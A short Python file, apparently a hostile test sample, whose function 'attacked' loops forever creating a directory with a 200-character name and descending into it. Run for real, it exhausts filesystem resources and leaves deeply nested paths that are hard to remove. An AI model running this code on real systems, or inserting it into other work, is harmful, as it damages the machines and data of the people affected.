"""Nests folders without end."""

import os


def attacked(x):
    while True:
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
